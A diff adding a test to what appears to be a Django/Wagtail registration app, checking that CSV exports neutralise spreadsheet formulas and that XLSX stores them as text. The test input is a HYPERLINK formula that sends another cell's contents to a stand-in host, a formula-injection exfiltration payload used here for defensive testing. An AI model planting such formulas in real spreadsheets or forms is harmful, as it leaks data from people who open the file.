@@ -59,6 +59,27 @@ def test_editor_exports_csv_and_xlsx(editor_client, session, registrations):
     assert sheet.max_row == 5
 
 
+def test_csv_export_writes_a_public_registration_formula_as_text(
+    editor_client, anonymous_client, session
+):
+    from tests.training.test_course_page import form_data
+
+    formula = '=HYPERLINK("http://x.test/?"&C2;"ok")'
+    data = form_data(session, name=formula, phone="+33 6 12 34 56 78")
+    assert anonymous_client.post(session.course.url, data).status_code == 302
+    response = editor_client.get(f"{REPORT}?session={session.pk}&export=csv")
+    content = b"".join(response.streaming_content).decode("utf-8-sig")
+    row = dict(zip(*list(csv.reader(io.StringIO(content))), strict=True))
+    assert row["Nom"] == "'" + formula
+    assert row["Téléphone"] == "'+33 6 12 34 56 78"
+    assert row["Courriel"] == "alix@exemple.org"
+    # XLSX keeps Wagtail's own protection: the text as it is, stored as text.
+    response = editor_client.get(f"{REPORT}?session={session.pk}&export=xlsx")
+    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
+    assert sheet.cell(row=2, column=2).value == formula
+    assert sheet.cell(row=2, column=2).data_type == "s"
+
+
 @pytest.mark.parametrize("role", ["anonymous", "member", "committee"])
 def test_others_get_no_registrations_in_the_admin(role, role_clients, session, registrations):
     client = role_clients[role]
